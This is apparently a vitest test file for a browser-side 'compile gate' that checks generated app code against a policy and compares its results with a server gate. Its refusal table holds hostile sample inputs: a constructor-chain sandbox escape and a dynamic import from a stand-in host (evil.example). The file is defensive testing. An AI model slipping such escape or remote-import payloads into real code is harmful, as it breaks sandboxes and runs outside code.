/**
 * The gate core without TypeScript (what the browser runs): the same module forms as the server's
 * gate on every template, the same parse and policy refusals, and only the type errors missing.
 */
import { describe, expect, it } from 'vitest';
import { CompileGate } from '../../src/lib/code/gate';
import { CompileGateCore, componentKey, type GateTypeChecker } from '../../src/lib/code/gate-core';
import { planOps } from '../../src/lib/ops/plan';
import { TEMPLATE_NAMES } from '../../src/lib/templates';
import type { AppModel } from '../../src/lib/model/types';
import { nodesOfType, template } from './helpers';

/** A model with `ops` applied and no gate on the way (as a peer that skips it would write). */
function unchecked(model: AppModel, ops: unknown[]): AppModel {
  const plan = planOps(model, ops, undefined, { verify: () => [] });
  if (!plan.ok) throw new Error(JSON.stringify(plan.errors));
  return plan.model;
}

describe('compile gate core (no TypeScript)', () => {
  const server = new CompileGate();
  const core = new CompileGateCore();

  for (const name of TEMPLATE_NAMES) {
    it(`gives the server's module forms for the ${name} template`, () => {
      const model = template(name);
      const expected = server.compile(model, undefined, { modules: true });
      const actual = core.compile(model, undefined, { modules: true });
      expect(actual.errors).toEqual([]);
      expect(actual.ok).toBe(true);
      expect([...actual.modules]).toEqual([...expected.modules]);
    });
  }

  const counter = template('counter');
  const heading = nodesOfType(counter, 'Heading')[0];
  const refusals: [string, unknown[], string][] = [
    [
      'window.location.href in a prop',
      [{ op: 'setProp', id: heading.id, name: 'text', value: { $expr: 'window.location.href' } }],
      'E_POLICY_GLOBAL'
    ],
    [
      'a syntax error',
      [{ op: 'setProp', id: heading.id, name: 'text', value: { $expr: 'String(state.count' } }],
      'E_SYNTAX'
    ],
    [
      'a constructor escape in a handler',
      [
        {
          op: 'setHandler',
          component: 'App',
          name: 'x',
          body: "({}).constructor.constructor('return this')()"
        }
      ],
      'E_POLICY_MEMBER'
    ],
    [
      'a dynamic import',
      [{ op: 'setHandler', component: 'App', name: 'x', body: "import('https://evil.example')" }],
      'E_POLICY_IMPORT'
    ]
  ];
  for (const [what, ops, code] of refusals) {
    it(`refuses ${what} (${code}) like the server, with the same error`, () => {
      const model = unchecked(counter, ops);
      const expected = server.compile(model, undefined, { modules: true });
      const actual = core.compile(model, undefined, { modules: true });
      expect(actual.ok).toBe(false);
      expect(actual.errors.map((e) => e.code)).toContain(code);
      expect(actual.errors).toEqual(expected.errors);
      expect(actual.modules.size).toBe(0);
    });
  }

  it('lets a type error through: that stage is the server’s alone', () => {
    const model = unchecked(counter, [
      { op: 'setProp', id: heading.id, name: 'text', value: { $expr: 'state.count.toUpperCase()' } }
    ]);
    expect(server.compile(model).errors.map((e) => e.code)).toEqual(['E_TYPE']);
    expect(core.compile(model, undefined, { modules: true }).ok).toBe(true);
  });

  it('runs a type checker it is handed, only over code that passed the policy', () => {
    const seen: string[] = [];
    let disposed = false;
    const checker: GateTypeChecker = {
      check: (_model, componentId, units) => {
        seen.push(`${componentId}:${units.length}`);
        return [];
      },
      dispose: () => {
        disposed = true;
      }
    };
    const gate = new CompileGateCore({ typechecker: checker });
    const app = counter.meta.root;
    expect(gate.compile(counter).ok).toBe(true);
    expect(seen).toHaveLength(1);
    expect(seen[0]).toMatch(new RegExp(`^${app}:[1-9]`));
    const refused = unchecked(counter, refusals[0][1]);
    expect(gate.compile(refused).ok).toBe(false);
    expect(seen).toHaveLength(1);
    gate.dispose();
    expect(disposed).toBe(true);
  });

  it('keys a component by its content: an edit changes its key, a copy of the model does not', () => {
    const app = counter.meta.root;
    const key = componentKey(counter, app);
    expect(componentKey(template('counter'), app)).toBe(key);
    const edited = unchecked(counter, [
      { op: 'setProp', id: heading.id, name: 'text', value: { $expr: 'String(state.step)' } }
    ]);
    expect(componentKey(edited, app)).not.toBe(key);
  });
});
